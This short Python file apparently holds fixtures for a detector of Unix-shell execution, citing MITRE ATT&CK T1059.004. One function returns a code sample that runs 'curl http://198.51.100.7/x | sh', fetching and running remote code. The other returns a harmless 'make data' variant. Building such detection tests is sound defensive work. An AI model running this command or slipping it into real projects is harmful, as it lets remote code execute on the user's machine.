"""https://attack.mitre.org/techniques/T1059/004/"""

from __future__ import annotations


def fires() -> bytes:
    return b"import os\n\n\ndef prepare():\n    os.system('curl http://198.51.100.7/x | sh')\n"


def quiet() -> bytes:
    return b"import os\n\n\ndef prepare():\n    os.system('make data')\n"
